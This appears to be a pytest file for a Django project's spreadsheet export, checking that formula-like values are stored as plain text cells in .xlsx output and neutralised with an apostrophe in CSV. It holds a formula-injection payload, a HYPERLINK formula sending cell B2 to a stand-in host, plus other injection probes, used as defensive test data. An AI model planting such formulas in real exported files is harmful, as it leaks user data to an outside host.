"""The .xlsx writer (prakerja.lib.csvfile.xlsx_blocks): every string a text cell written verbatim, with no
apostrophe before a formula-like value (a text cell is never evaluated), from Python rows and a query alike;
the CSV of the same rows still neutralises them."""
from __future__ import annotations

import pytest
from django.db.models import F

from prakerja.lib import csvfile
from prakerja.lib.csvfile import Column
from registration.models import Applicant
from tests.spreadsheet import read_xlsx

FORMULA = '=HYPERLINK("http://x.example/?d="&B2,"Cek")'
VALUES = [FORMULA, "=1+1", "+1+1", "-1+1", "@SUM(A1)", " =cmd", "{=1+1}", "'=x", "Siti Aminah", "3201014701860008",
          "+6281234567890"]


def _sheet(tmp_path, blocks) -> list:
    path = tmp_path / "out.xlsx"
    path.write_bytes(b"".join(blocks))
    return read_xlsx(path)


def test_python_rows_are_text_cells_verbatim(tmp_path):
    rows = _sheet(tmp_path, csvfile.xlsx_blocks([Column("v", "=label"), Column("n", "n")],
                                                [[(value, 7) for value in VALUES]]))
    assert [(cell.value, cell.kind, cell.formula) for cell in rows[0]] == [("=label", "text", False),
                                                                          ("n", "text", False)]
    assert [(row[0].value, row[0].kind, row[0].formula) for row in rows[1:]] == [
        (value, "text", False) for value in VALUES]
    assert {(row[1].value, row[1].kind) for row in rows[1:]} == {("7", "number")}


def test_query_rows_are_text_cells_verbatim_and_the_csv_still_neutralises(tmp_path, applicant):
    Applicant.objects.filter(pk=applicant.pk).update(full_name=FORMULA)
    columns = [Column("full_name", "full_name"), Column("nik", "nik", as_text=True), Column("n", "n")]
    query = Applicant.objects.order_by("pk").annotate(n=F("pk") * 0 + 7)
    rows = _sheet(tmp_path, csvfile.xlsx_blocks(columns, query))
    assert [(cell.value, cell.kind, cell.formula) for cell in rows[1]] == [
        (FORMULA, "text", False), ("3201014112900001", "text", False), ("7", "number", False)]
    csv_text = b"".join(csvfile.csv_blocks(columns, query)).decode("utf-8-sig")
    assert csv_text.splitlines()[1].startswith("\"'=HYPERLINK(")


def test_calc_opens_the_names_as_text_without_an_apostrophe(tmp_path, calc):
    path = tmp_path / "out.xlsx"
    path.write_bytes(b"".join(csvfile.xlsx_blocks([Column("v", "v")], [[(value,) for value in VALUES]])))
    saved = calc.read_xlsx(calc.open_and_save_as_xlsx(path))
    assert [(row[0].value, row[0].kind, row[0].formula) for row in saved[1:]] == [
        (value, "text", False) for value in VALUES]
